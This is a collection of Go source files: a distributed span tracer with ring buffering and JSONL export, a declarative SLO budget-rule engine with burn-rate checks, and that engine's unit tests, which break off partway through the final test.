// hex digits, zero-padded, so journal fields, JSONL exports and report
// panels cross-link by exact string match.
func TraceHex(id uint64) string { return fmt.Sprintf("%016x", id) }

// DTracer records completed spans into a bounded ring. Disarmed (the
// default) every entry point is one atomic load; the ring itself is
// allocated lazily on first arm so idle binaries pay nothing.
type DTracer struct {
	armed  atomic.Bool
	sample atomic.Int64 // keep 1 in N traces; <=1 keeps all
	canon  atomic.Bool  // zero timestamps for byte-diffable exports

	mu      sync.Mutex
	proc    string
	epoch   time.Time
	cap     int
	buf     []SpanRec
	next    uint64 // spans ever recorded
	dropped uint64 // spans overwritten by ring wraparound
}

// NewDTracer creates a disarmed tracer holding at most capacity spans
// (minimum 16).
func NewDTracer(capacity int) *DTracer {
	if capacity < 16 {
		capacity = 16
	}
	return &DTracer{cap: capacity}
}

// SetEnabled arms or disarms the tracer. Arming allocates the ring and
// starts the clock on first use.
func (t *DTracer) SetEnabled(on bool) {
	if t == nil {
		return
	}
	if on {
		t.mu.Lock()
		if t.buf == nil {
			t.buf = make([]SpanRec, 0, t.cap)
		}
		if t.epoch.IsZero() {
			t.epoch = time.Now()
		}
		t.mu.Unlock()
	}
	t.armed.Store(on)
}

// Enabled reports whether the tracer is armed — the fast gate span
// sites check before reading the clock.
func (t *DTracer) Enabled() bool { return t != nil && t.armed.Load() }

// SetProc names the recording process; it is stamped on every span so
// merged multi-process traces keep their halves apart.
func (t *DTracer) SetProc(name string) {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.proc = name
	t.mu.Unlock()
}

// SetSampleN keeps 1 in n traces (head-based: the decision is a pure
// function of the trace ID, so client and server keep the same set and
// every process of a run agrees without coordination). n <= 1 keeps all.
func (t *DTracer) SetSampleN(n int) {
	if t != nil {
		t.sample.Store(int64(n))
	}
}

// SetCanonical zeroes span timestamps at record time, leaving only the
// deterministic (IDs, structure, N) content — the mode CI byte-diffs
// across worker counts.
func (t *DTracer) SetCanonical(on bool) {
	if t != nil {
		t.canon.Store(on)
	}
}

// Keep reports the head-based sampling decision for a trace ID.
func (t *DTracer) Keep(trace uint64) bool {
	if t == nil {
		return false
	}
	n := t.sample.Load()
	if n <= 1 {
		return true
	}
	return splitmix64(trace)%uint64(n) == 0
}

// NowUS returns the tracer's clock: µs since arm, or 0 in canonical
// mode. Callers use it to stamp retroactive spans (server queue wait,
// buffered handshake phases) on the same timebase as live spans.
func (t *DTracer) NowUS() int64 {
	if t == nil || t.canon.Load() {
		return 0
	}
	t.mu.Lock()
	epoch := t.epoch
	t.mu.Unlock()
	if epoch.IsZero() {
		return 0
	}
	return time.Since(epoch).Microseconds()
}

// record appends one span to the ring (overwriting the oldest on wrap)
// and feeds the obs.trace_spans / obs.trace_dropped counters.
func (t *DTracer) record(r SpanRec) {
	t.mu.Lock()
	r.Proc = t.proc
	if t.canon.Load() {
		r.StartUS, r.DurUS = 0, 0
	}
	if len(t.buf) < cap(t.buf) {
		t.buf = append(t.buf, r)
	} else if cap(t.buf) > 0 {
		t.buf[int(t.next)%cap(t.buf)] = r
		t.dropped++
		mTraceDropped.Inc()
	}
	t.next++
	t.mu.Unlock()
	mTraceSpans.Inc()
}

// DSpan is an in-flight span. A nil *DSpan is the disarmed/unsampled
// form: every method is a nil-check no-op, so call sites never branch.
type DSpan struct {
	t      *DTracer
	trace  uint64
	id     uint64
	parent uint64
	ord    uint32
	layer  string
	name   string
	start  int64
	n      atomic.Int64
	kids   atomic.Uint32
}

// Root starts a new local root span for trace. Returns nil when the
// tracer is disarmed or the trace is not sampled.
func (t *DTracer) Root(trace uint64, layer, name string) *DSpan {
	if t == nil || !t.armed.Load() {
		return nil
	}
	return t.RootAt(trace, 0, layer, name, t.NowUS())
}

// RootAt starts a root span with an explicit remote parent (0 for none)
// and an explicit start time — the server half of a session uses it to
// hang itself under the client span that arrived on the wire, backdated
// to the accept instant.
func (t *DTracer) RootAt(trace, parent uint64, layer, name string, startUS int64) *DSpan {
	if t == nil || !t.armed.Load() || !t.Keep(trace) {
		return nil
	}
	return &DSpan{
		t: t, trace: trace, parent: parent,
		id:    DeriveSpanID(trace^parent, layer, name, 0),
		layer: layer, name: name, start: startUS,
	}
}

// Child starts a sub-span. Safe (and free) on a nil receiver.
func (s *DSpan) Child(layer, name string) *DSpan {
	if s == nil {
		return nil
	}
	return s.ChildAt(layer, name, s.t.NowUS())
}

// ChildAt starts a sub-span with an explicit start time.
func (s *DSpan) ChildAt(layer, name string, startUS int64) *DSpan {
	if s == nil {
		return nil
	}
	ord := s.kids.Add(1) - 1
	return &DSpan{
		t: s.t, trace: s.trace, parent: s.id, ord: ord,
		id:    DeriveSpanID(s.id, layer, name, ord),
		layer: layer, name: name, start: startUS,
	}
}

// Event records a completed leaf child in one call — the shape used by
// hot sites (record batches, retransmits) that should not juggle a
// span object.
func (s *DSpan) Event(layer, name string, startUS, durUS, n int64) {
	if s == nil {
		return
	}
	if durUS < 0 {
		durUS = 0
	}
	ord := s.kids.Add(1) - 1
	s.t.record(SpanRec{
		Trace: s.trace, Span: DeriveSpanID(s.id, layer, name, ord),
		Parent: s.id, Ord: ord, Layer: layer, Name: name,
		StartUS: startUS, DurUS: durUS, N: n,
	})
}

// SetN attaches a magnitude to the span.
func (s *DSpan) SetN(n int64) {
	if s != nil {
		s.n.Store(n)
	}
}

// End completes the span at the tracer clock's current reading.
func (s *DSpan) End() {
	if s == nil {
		return
	}
	s.EndAt(s.t.NowUS())
}

// EndAt completes the span at an explicit end time.
func (s *DSpan) EndAt(endUS int64) {
	if s == nil {
		return
	}
	dur := endUS - s.start
	if dur < 0 {
		dur = 0
	}
	s.t.record(SpanRec{
		Trace: s.trace, Span: s.id, Parent: s.parent, Ord: s.ord,
		Layer: s.layer, Name: s.name,
		StartUS: s.start, DurUS: dur, N: s.n.Load(),
	})
}

// TraceID returns the span's trace ID (0 on nil) — what goes on the
// wire and into journal trace_id fields.
func (s *DSpan) TraceID() uint64 {
	if s == nil {
		return 0
	}
	return s.trace
}

// ID returns the span's own ID (0 on nil).
func (s *DSpan) ID() uint64 {
	if s == nil {
		return 0
	}
	return s.id
}

// Spans returns the buffered spans sorted by (trace, span, parent,
// ord): a canonical order independent of recording interleave, so the
// same logical run exports identically at any concurrency.
func (t *DTracer) Spans() []SpanRec {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	out := append([]SpanRec{}, t.buf...)
	t.mu.Unlock()
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Trace != b.Trace {
			return a.Trace < b.Trace
		}
		if a.Span != b.Span {
			return a.Span < b.Span
		}
		if a.Parent != b.Parent {
			return a.Parent < b.Parent
		}
		return a.Ord < b.Ord
	})
	return out
}

// Stats summarizes ring health for metric snapshots.
func (t *DTracer) Stats() TraceStats {
	if t == nil {
		return TraceStats{}
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return TraceStats{Recorded: t.next, Dropped: t.dropped, Capacity: t.cap}
}

// Reset empties the ring and zeroes the recorded/dropped counters
// without changing the armed state — test isolation, mostly.
func (t *DTracer) Reset() {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.buf = t.buf[:0]
	t.next, t.dropped = 0, 0
	t.mu.Unlock()
}

// spanLine is the JSONL field layout; IDs travel as fixed-width hex so
// the file greps and sorts the way the report panels spell them.
type spanLine struct {
	Trace  string `json:"trace"`
	Span   string `json:"span"`
	Parent string `json:"parent,omitempty"`
	Ord    uint32 `json:"ord"`
	Proc   string `json:"proc,omitempty"`
	Layer  string `json:"layer"`
	Name   string `json:"name"`
	Start  int64  `json:"start_us"`
	Dur    int64  `json:"dur_us"`
	N      int64  `json:"n,omitempty"`
}

func toLine(r SpanRec) spanLine {
	l := spanLine{
		Trace: TraceHex(r.Trace), Span: TraceHex(r.Span),
		Ord: r.Ord, Proc: r.Proc, Layer: r.Layer, Name: r.Name,
		Start: r.StartUS, Dur: r.DurUS, N: r.N,
	}
	if r.Parent != 0 {
		l.Parent = TraceHex(r.Parent)
	}
	return l
}

// WriteJSONL exports the sorted spans, one JSON object per line.
func (t *DTracer) WriteJSONL(w io.Writer) error {
	bw := bufio.NewWriter(w)
	for _, r := range t.Spans() {
		blob, err := json.Marshal(toLine(r))
		if err != nil {
			return err
		}
		bw.Write(blob)
		bw.WriteByte('\n')
	}
	return bw.Flush()
}

// WriteFile writes the span JSONL to path.
func (t *DTracer) WriteFile(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return fmt.Errorf("obs: %w", err)
	}
	if err := t.WriteJSONL(f); err != nil {
		f.Close()
		return err
	}
	return f.Close()
}

// ReadSpans loads a span JSONL stream, returning the parsed spans and
// the number of malformed lines skipped (mirroring the journal loader:
// a truncated artifact should degrade, not abort, a report).
func ReadSpans(r io.Reader) ([]SpanRec, int, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	var out []SpanRec
	skipped := 0
	for sc.Scan() {
		line := sc.Bytes()
		if len(line) == 0 {
			continue
		}
		var l spanLine
		if err := json.Unmarshal(line, &l); err != nil {
			skipped++
			continue
		}
		rec := SpanRec{
			Ord: l.Ord, Proc: l.Proc, Layer: l.Layer, Name: l.Name,
			StartUS: l.Start, DurUS: l.Dur, N: l.N,
		}
		var err error
		if rec.Trace, err = strconv.ParseUint(l.Trace, 16, 64); err != nil {
			skipped++
			continue
		}
		if rec.Span, err = strconv.ParseUint(l.Span, 16, 64); err != nil {
			skipped++
			continue
		}
		if l.Parent != "" {
			if rec.Parent, err = strconv.ParseUint(l.Parent, 16, 64); err != nil {
				skipped++
				continue
			}
		}
		out = append(out, rec)
	}
	return out, skipped, sc.Err()
}

// ReadSpansFile loads a span JSONL file.
func ReadSpansFile(path string) ([]SpanRec, int, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, 0, fmt.Errorf("obs: %w", err)
	}
	defer f.Close()
	return ReadSpans(f)
}

// DefaultDTracer is the process-wide distributed tracer, disarmed until
// a cmd opts in with -dtrace.
var DefaultDTracer = NewDTracer(1 << 16)

// DTraceEnabled reports whether the default distributed tracer is armed.
func DTraceEnabled() bool { return DefaultDTracer.Enabled() }

// DTraceNowUS reads the default distributed tracer's clock.
func DTraceNowUS() int64 { return DefaultDTracer.NowUS() }
