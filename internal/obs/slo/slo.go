// Package slo is a declarative budget-violation detector: the paper's
// "demand exceeded supply" moments (the Figure 3 processing gap, the
// Figure 4 battery gap, retransmission energy overruns) expressed as
// rules over metric snapshots instead of prose. Rules live in a JSON
// file (see bench/slo_rules.json), are evaluated against flattened
// metric values at intervals and at run end, and fire at most once per
// run; the obs CLI turns firings into journal events, an exit code
// (-slo-strict), and report tables.
//
// The package depends only on the standard library and knows nothing
// about the metrics registry: callers supply a lookup function from
// (metric, aggregation) to a float64. That keeps slo importable from
// anywhere without cycles.
package slo

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"
	"sync"
)

// Severity ranks a firing. Warn documents a budget under pressure; Crit
// fails the run under -slo-strict.
type Severity string

const (
	Warn Severity = "warn"
	Crit Severity = "crit"
)

// Rule is one declarative budget check:
//
//	{
//	  "name":      "battery-gap",
//	  "metric":    "core.battery_relative.secure_rsa",
//	  "op":        "<",
//	  "threshold": 0.5,
//	  "severity":  "warn",
//	  "reason":    "Fig 4: secure transactions per charge under half of plain"
//	}
//
// With "denom" set the rule checks metric/denom against the threshold
// (ratio rules, e.g. retransmit energy share). "agg" selects a
// histogram aggregation (count, sum, mean); counters and gauges use the
// default "value". A rule whose metric (or denom) is absent from the
// snapshot — or whose denominator is zero — is skipped for that
// evaluation: rules describe budgets for runs that exercise them.
//
// With "burn" set the rule is a multi-window burn-rate check (SRE
// style): instead of the run totals, the expression is evaluated over
// the trailing Fast windows AND over the trailing Slow windows of the
// time-series recorder, and fires only when both trip the threshold —
// the fast window catches the trajectory early, the slow window keeps
// one noisy interval from paging. Burn rules are evaluated by EvalBurn
// as windows are cut (they need -series history) and are skipped by
// Eval.
type Rule struct {
	Name      string   `json:"name"`
	Metric    string   `json:"metric"`
	Denom     string   `json:"denom,omitempty"`
	Agg       string   `json:"agg,omitempty"`
	Op        string   `json:"op"`
	Threshold float64  `json:"threshold"`
	Severity  Severity `json:"severity"`
	Burn      *Burn    `json:"burn,omitempty"`
	Reason    string   `json:"reason,omitempty"`
}

// Burn is the fast/slow trailing-window pair of a burn-rate rule,
// counted in recorder windows (window duration is the cmd's
// -series-interval, or one fleet sample period in model time).
type Burn struct {
	Fast int `json:"fast"`
	Slow int `json:"slow"`
}

var validOps = map[string]func(v, t float64) bool{
	"<":  func(v, t float64) bool { return v < t },
	"<=": func(v, t float64) bool { return v <= t },
	">":  func(v, t float64) bool { return v > t },
	">=": func(v, t float64) bool { return v >= t },
	"==": func(v, t float64) bool { return v == t },
	"!=": func(v, t float64) bool { return v != t },
}

var validAggs = map[string]bool{"": true, "value": true, "count": true, "sum": true, "mean": true}

// Validate reports the first problem with the rule, or nil.
func (r *Rule) Validate() error {
	if strings.TrimSpace(r.Name) == "" {
		return fmt.Errorf("slo: rule has no name")
	}
	if strings.TrimSpace(r.Metric) == "" {
		return fmt.Errorf("slo: rule %q: missing metric", r.Name)
	}
	if _, ok := validOps[r.Op]; !ok {
		return fmt.Errorf("slo: rule %q: bad comparator %q (want < <= > >= == !=)", r.Name, r.Op)
	}
	if !validAggs[r.Agg] {
		return fmt.Errorf("slo: rule %q: bad aggregation %q (want value, count, sum or mean)", r.Name, r.Agg)
	}
	switch r.Severity {
	case Warn, Crit:
	default:
		return fmt.Errorf("slo: rule %q: bad severity %q (want warn or crit)", r.Name, r.Severity)
	}
	if r.Burn != nil {
		if r.Burn.Fast < 1 {
			return fmt.Errorf("slo: rule %q: burn.fast must be >= 1", r.Name)
		}
		if r.Burn.Slow <= r.Burn.Fast {
			return fmt.Errorf("slo: rule %q: burn.slow (%d) must exceed burn.fast (%d)", r.Name, r.Burn.Slow, r.Burn.Fast)
		}
	}
	return nil
}

// Parse decodes and validates a rules file. Unknown JSON keys are
// rejected so a typoed field name cannot silently disable a budget, and
// duplicate rule names are rejected because firings dedupe by name.
func Parse(blob []byte) ([]Rule, error) {
	dec := json.NewDecoder(strings.NewReader(string(blob)))
	dec.DisallowUnknownFields()
	var rules []Rule
	if err := dec.Decode(&rules); err != nil {
		return nil, fmt.Errorf("slo: parsing rules: %w", err)
	}
	if len(rules) == 0 {
		return nil, fmt.Errorf("slo: rules file declares no rules")
	}
	seen := make(map[string]bool, len(rules))
	for i := range rules {
		if err := rules[i].Validate(); err != nil {
			return nil, err
		}
		if seen[rules[i].Name] {
			return nil, fmt.Errorf("slo: duplicate rule name %q", rules[i].Name)
		}
		seen[rules[i].Name] = true
	}
	return rules, nil
}

// LoadFile reads and parses a rules file.
func LoadFile(path string) ([]Rule, error) {
	blob, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("slo: %w", err)
	}
	return Parse(blob)
}

// Firing records one rule violation. For burn-rate rules Value is the
// fast-window value and SlowValue the slow-window value that confirmed
// it; for plain rules SlowValue is zero.
type Firing struct {
	Rule      Rule
	Value     float64 // the evaluated value (metric, or metric/denom)
	SlowValue float64 // burn rules: the slow-window value
	TSim      int64   // model step of the evaluation that caught it
}

// Lookup resolves a (metric, aggregation) pair to a value; ok=false
// means the metric was not observed in this run.
type Lookup func(metric, agg string) (float64, bool)

// WindowLookup resolves a (metric, aggregation) pair over the trailing
// n time-series windows; ok=false means the metric was never seen or
// fewer than n windows exist yet (obs/ts.Recorder.WindowLookup is the
// canonical implementation).
type WindowLookup func(metric, agg string, n int) (float64, bool)

// Engine evaluates a rule set against successive snapshots, firing each
// rule at most once. Safe for concurrent use (the live HTTP server
// evaluates on a ticker while the run thread evaluates at exit).
type Engine struct {
	rules []Rule

	mu      sync.Mutex
	fired   map[string]bool
	firings []Firing
}

// NewEngine builds an engine over validated rules.
func NewEngine(rules []Rule) *Engine {
	return &Engine{rules: rules, fired: make(map[string]bool)}
}

// Rules returns the engine's rule set.
func (e *Engine) Rules() []Rule { return e.rules }

// Eval checks every not-yet-fired plain rule against the lookup and
// returns the rules that fired during this evaluation, in rule-file
// order. Burn-rate rules are skipped (they need window history — see
// EvalBurn), so a run without -series leaves them silent rather than
// firing them on totals they were not written for.
func (e *Engine) Eval(tSim int64, lk Lookup) []Firing {
	if e == nil {
		return nil
	}
	var fresh []Firing
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, r := range e.rules {
		if e.fired[r.Name] || r.Burn != nil {
			continue
		}
		v, ok := lk(r.Metric, r.Agg)
		if !ok {
			continue
		}
		if r.Denom != "" {
			d, ok := lk(r.Denom, r.Agg)
			if !ok || d == 0 {
				continue
			}
			v /= d
		}
		if validOps[r.Op](v, r.Threshold) {
			f := Firing{Rule: r, Value: v, TSim: tSim}
			e.fired[r.Name] = true
			e.firings = append(e.firings, f)
			fresh = append(fresh, f)
		}
	}
	return fresh
}

// HasBurnRules reports whether the rule set contains any burn-rate
// rules (whether the CLI needs to hang EvalBurn off window cuts).
func (e *Engine) HasBurnRules() bool {
	if e == nil {
		return false
	}
	for _, r := range e.rules {
		if r.Burn != nil {
			return true
		}
	}
	return false
}

// EvalBurn checks every not-yet-fired burn-rate rule against the
// trailing-window lookup: the rule's expression is computed over the
// fast window span and the slow window span, and fires only when both
// trip the threshold. A metric absent from either span — including the
// warm-up phase before slow windows of history exist — skips the rule
// for this evaluation. Fired rules dedupe with Eval through the same
// per-name state.
func (e *Engine) EvalBurn(tSim int64, wlk WindowLookup) []Firing {
	if e == nil || wlk == nil {
		return nil
	}
	var fresh []Firing
	e.mu.Lock()
	defer e.mu.Unlock()
	for _, r := range e.rules {
		if r.Burn == nil || e.fired[r.Name] {
			continue
		}
		fast, ok := e.windowValue(r, r.Burn.Fast, wlk)
		if !ok || !validOps[r.Op](fast, r.Threshold) {
			continue
		}
		slow, ok := e.windowValue(r, r.Burn.Slow, wlk)
		if !ok || !validOps[r.Op](slow, r.Threshold) {
			continue
		}
		f := Firing{Rule: r, Value: fast, SlowValue: slow, TSim: tSim}
		e.fired[r.Name] = true
		e.firings = append(e.firings, f)
		fresh = append(fresh, f)
	}
	return fresh
}

// windowValue computes a rule's expression (metric, or metric/denom)
// over the trailing n windows. Caller holds e.mu.
func (e *Engine) windowValue(r Rule, n int, wlk WindowLookup) (float64, bool) {
	v, ok := wlk(r.Metric, r.Agg, n)
	if !ok {
		return 0, false
	}
	if r.Denom != "" {
		d, ok := wlk(r.Denom, r.Agg, n)
		if !ok || d == 0 {
			return 0, false
		}
		v /= d
	}
	return v, true
}

// Firings returns every firing so far, in firing order.
func (e *Engine) Firings() []Firing {
	if e == nil {
		return nil
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]Firing, len(e.firings))
	copy(out, e.firings)
	return out
}

// CritCount reports how many fired rules are Crit severity — the number
// -slo-strict turns into a nonzero exit.
func (e *Engine) CritCount() int {
	if e == nil {
		return 0
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	n := 0
	for _, f := range e.firings {
		if f.Rule.Severity == Crit {
			n++
		}
	}
	return n
}

// Summary renders fired rules as aligned text lines for stderr, e.g.
//
//	WARN battery-gap: core.battery_relative.secure_rsa = 0.403 < 0.5
func Summary(firings []Firing) string {
	if len(firings) == 0 {
		return ""
	}
	var b strings.Builder
	for _, f := range firings {
		expr := f.Rule.Metric
		if f.Rule.Agg != "" && f.Rule.Agg != "value" {
			expr += "." + f.Rule.Agg
		}
		if f.Rule.Denom != "" {
			expr += " / " + f.Rule.Denom
		}
		if f.Rule.Burn != nil {
			expr = fmt.Sprintf("%s over %dw/%dw", expr, f.Rule.Burn.Fast, f.Rule.Burn.Slow)
			fmt.Fprintf(&b, "%s %s: %s = %.4g/%.4g %s %.4g", strings.ToUpper(string(f.Rule.Severity)),
				f.Rule.Name, expr, f.Value, f.SlowValue, f.Rule.Op, f.Rule.Threshold)
		} else {
			fmt.Fprintf(&b, "%s %s: %s = %.4g %s %.4g", strings.ToUpper(string(f.Rule.Severity)),
				f.Rule.Name, expr, f.Value, f.Rule.Op, f.Rule.Threshold)
		}
		if f.Rule.Reason != "" {
			fmt.Fprintf(&b, " (%s)", f.Rule.Reason)
		}
		b.WriteByte('\n')
	}
	return b.String()
}

// MarshalFirings renders firings as deterministic JSON for the /alerts
// endpoint and tooling.
func MarshalFirings(firings []Firing) []byte {
	type wire struct {
		Rule      string   `json:"rule"`
		Severity  Severity `json:"severity"`
		Metric    string   `json:"metric"`
		Denom     string   `json:"denom,omitempty"`
		Op        string   `json:"op"`
		Threshold float64  `json:"threshold"`
		Value     float64  `json:"value"`
		SlowValue float64  `json:"slow_value,omitempty"`
		Burn      *Burn    `json:"burn,omitempty"`
		TSim      int64    `json:"t_sim"`
		Reason    string   `json:"reason,omitempty"`
	}
	out := make([]wire, 0, len(firings))
	for _, f := range firings {
		out = append(out, wire{
			Rule: f.Rule.Name, Severity: f.Rule.Severity, Metric: f.Rule.Metric,
			Denom: f.Rule.Denom, Op: f.Rule.Op, Threshold: f.Rule.Threshold,
			Value: f.Value, SlowValue: f.SlowValue, Burn: f.Rule.Burn,
			TSim: f.TSim, Reason: f.Rule.Reason,
		})
	}
	sort.SliceStable(out, func(i, j int) bool { return out[i].Rule < out[j].Rule })
	b, err := json.MarshalIndent(out, "", "  ")
	if err != nil {
		return []byte("[]")
	}
	return b
}
