package slo

import (
	"strings"
	"testing"
)

func TestParseTable(t *testing.T) {
	good := `[{"name":"battery-gap","metric":"core.battery_relative.secure_rsa","op":"<","threshold":0.5,"severity":"warn","reason":"Fig 4"}]`
	cases := []struct {
		name    string
		blob    string
		wantErr string // substring of the error, "" for success
	}{
		{"valid", good, ""},
		{"empty file", ``, "parsing rules"},
		{"empty list", `[]`, "declares no rules"},
		{"not a list", `{"name":"x"}`, "parsing rules"},
		{"bad comparator", `[{"name":"x","metric":"m","op":"<>","threshold":1,"severity":"warn"}]`, "bad comparator"},
		{"missing metric", `[{"name":"x","op":"<","threshold":1,"severity":"warn"}]`, "missing metric"},
		{"missing name", `[{"metric":"m","op":"<","threshold":1,"severity":"warn"}]`, "no name"},
		{"bad severity", `[{"name":"x","metric":"m","op":"<","threshold":1,"severity":"fatal"}]`, "bad severity"},
		{"bad aggregation", `[{"name":"x","metric":"m","agg":"p99","op":"<","threshold":1,"severity":"warn"}]`, "bad aggregation"},
		{"unknown field", `[{"name":"x","metric":"m","op":"<","treshold":1,"severity":"warn"}]`, "parsing rules"},
		{"duplicate names", `[{"name":"x","metric":"m","op":"<","threshold":1,"severity":"warn"},
		                     {"name":"x","metric":"m2","op":">","threshold":2,"severity":"crit"}]`, "duplicate rule name"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			rules, err := Parse([]byte(tc.blob))
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("Parse: %v", err)
				}
				if len(rules) != 1 || rules[0].Name != "battery-gap" {
					t.Fatalf("got %+v", rules)
				}
				return
			}
			if err == nil {
				t.Fatalf("Parse accepted %s", tc.blob)
			}
			if !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("error %q does not mention %q", err, tc.wantErr)
			}
		})
	}
}

func mapLookup(m map[string]float64) Lookup {
	return func(metric, agg string) (float64, bool) {
		if agg != "" && agg != "value" {
			metric += "." + agg
		}
		v, ok := m[metric]
		return v, ok
	}
}

func TestEvalFiresOncePerRule(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"battery-gap","metric":"rel","op":"<","threshold":0.5,"severity":"warn"},
	  {"name":"gap-crit","metric":"demand","denom":"supply","op":">","threshold":1,"severity":"crit"}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)

	// First snapshot: only the ratio rule's inputs exist, ratio under limit.
	fired := e.Eval(10, mapLookup(map[string]float64{"demand": 90, "supply": 100}))
	if len(fired) != 0 {
		t.Fatalf("fired early: %+v", fired)
	}

	// Second snapshot: both violate.
	fired = e.Eval(20, mapLookup(map[string]float64{"rel": 0.4, "demand": 651, "supply": 300}))
	if len(fired) != 2 {
		t.Fatalf("got %d firings, want 2: %+v", len(fired), fired)
	}
	if fired[0].Rule.Name != "battery-gap" || fired[0].Value != 0.4 || fired[0].TSim != 20 {
		t.Fatalf("firing 0: %+v", fired[0])
	}
	if fired[1].Rule.Name != "gap-crit" || fired[1].Value != 651.0/300 {
		t.Fatalf("firing 1: %+v", fired[1])
	}

	// Third snapshot, still violating: deduped.
	if again := e.Eval(30, mapLookup(map[string]float64{"rel": 0.1, "demand": 700, "supply": 300})); len(again) != 0 {
		t.Fatalf("rules fired twice: %+v", again)
	}
	if len(e.Firings()) != 2 {
		t.Fatalf("Firings() = %d, want 2", len(e.Firings()))
	}
	if e.CritCount() != 1 {
		t.Fatalf("CritCount() = %d, want 1", e.CritCount())
	}
}

func TestEvalSkipsAbsentAndZeroDenom(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"absent","metric":"never_recorded","op":">","threshold":0,"severity":"crit"},
	  {"name":"zero-denom","metric":"a","denom":"b","op":">","threshold":0,"severity":"crit"}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)
	if fired := e.Eval(0, mapLookup(map[string]float64{"a": 5, "b": 0})); len(fired) != 0 {
		t.Fatalf("rules with missing data fired: %+v", fired)
	}
}

func TestEvalAggregations(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"mean-latency","metric":"lat","agg":"mean","op":">=","threshold":10,"severity":"warn"}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)
	fired := e.Eval(0, mapLookup(map[string]float64{"lat.mean": 12}))
	if len(fired) != 1 || fired[0].Value != 12 {
		t.Fatalf("agg lookup failed: %+v", fired)
	}
}

func TestSummaryAndMarshal(t *testing.T) {
	rules, _ := Parse([]byte(`[
	  {"name":"retx-energy","metric":"energy.drained_uj.radio-retx","denom":"energy.drained_uj","op":">","threshold":0.3,"severity":"warn","reason":"ARQ overhead"}
	]`))
	e := NewEngine(rules)
	e.Eval(-1, mapLookup(map[string]float64{"energy.drained_uj.radio-retx": 40, "energy.drained_uj": 100}))
	sum := Summary(e.Firings())
	for _, frag := range []string{"WARN retx-energy", "/ energy.drained_uj", "> 0.3", "ARQ overhead"} {
		if !strings.Contains(sum, frag) {
			t.Errorf("summary %q missing %q", sum, frag)
		}
	}
	if Summary(nil) != "" {
		t.Error("Summary(nil) not empty")
	}
	blob := string(MarshalFirings(e.Firings()))
	for _, frag := range []string{`"rule": "retx-energy"`, `"value": 0.4`, `"t_sim": -1`} {
		if !strings.Contains(blob, frag) {
			t.Errorf("marshal %s missing %q", blob, frag)
		}
	}
	if string(MarshalFirings(nil)) != "[]" {
		t.Errorf("MarshalFirings(nil) = %s", MarshalFirings(nil))
	}
}

// TestEvalIdempotentAcrossTicks pins the interval-evaluation contract:
// a rule whose metric oscillates around the threshold across many
// periodic ticks fires exactly once, at the first violating tick, and
// repeated evaluation after the run is settled adds nothing.
func TestEvalIdempotentAcrossTicks(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"flappy","metric":"v","op":">","threshold":10,"severity":"warn"}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)
	values := []float64{5, 9, 11, 3, 50, 2, 99}
	var firedAt []int64
	for i, v := range values {
		for _, f := range e.Eval(int64(i), mapLookup(map[string]float64{"v": v})) {
			firedAt = append(firedAt, f.TSim)
		}
	}
	if len(firedAt) != 1 || firedAt[0] != 2 {
		t.Fatalf("fired at ticks %v, want exactly [2]", firedAt)
	}
	// Tail evaluations (run end, strict-mode re-check) stay silent and
	// leave recorded state untouched.
	before := len(e.Firings())
	for i := 0; i < 5; i++ {
		if again := e.Eval(-1, mapLookup(map[string]float64{"v": 1000})); len(again) != 0 {
			t.Fatalf("re-fired on settled engine: %+v", again)
		}
	}
	if len(e.Firings()) != before || e.CritCount() != 0 {
		t.Fatalf("settled engine mutated: %d firings", len(e.Firings()))
	}
}

func TestParseBurnValidation(t *testing.T) {
	cases := []struct {
		name    string
		blob    string
		wantErr string
	}{
		{"valid burn", `[{"name":"b","metric":"m","op":">","threshold":1,"severity":"warn","burn":{"fast":2,"slow":5}}]`, ""},
		{"fast zero", `[{"name":"b","metric":"m","op":">","threshold":1,"severity":"warn","burn":{"fast":0,"slow":5}}]`, "burn.fast"},
		{"slow not greater", `[{"name":"b","metric":"m","op":">","threshold":1,"severity":"warn","burn":{"fast":3,"slow":3}}]`, "burn.slow"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse([]byte(tc.blob))
			if tc.wantErr == "" {
				if err != nil {
					t.Fatalf("Parse: %v", err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
				t.Fatalf("err = %v, want mention of %q", err, tc.wantErr)
			}
		})
	}
}

// windowLookup builds a WindowLookup over a per-metric series of window
// deltas: the trailing-n value is the sum of the last n entries, and a
// request for more windows than exist answers ok=false (the ts
// recorder's warm-up gate).
func windowLookup(series map[string][]float64, have int) WindowLookup {
	return func(metric, agg string, n int) (float64, bool) {
		if n > have {
			return 0, false
		}
		s, ok := series[metric]
		if !ok {
			return 0, false
		}
		var sum float64
		for _, v := range s[len(s)-n:] {
			sum += v
		}
		return sum, true
	}
}

func TestEvalBurn(t *testing.T) {
	rules, err := Parse([]byte(`[
	  {"name":"retry-burn","metric":"retries","denom":"ok","op":">","threshold":0.1,"severity":"warn","burn":{"fast":2,"slow":4}},
	  {"name":"plain","metric":"retries","op":">","threshold":0,"severity":"warn"}
	]`))
	if err != nil {
		t.Fatal(err)
	}
	e := NewEngine(rules)
	if !e.HasBurnRules() {
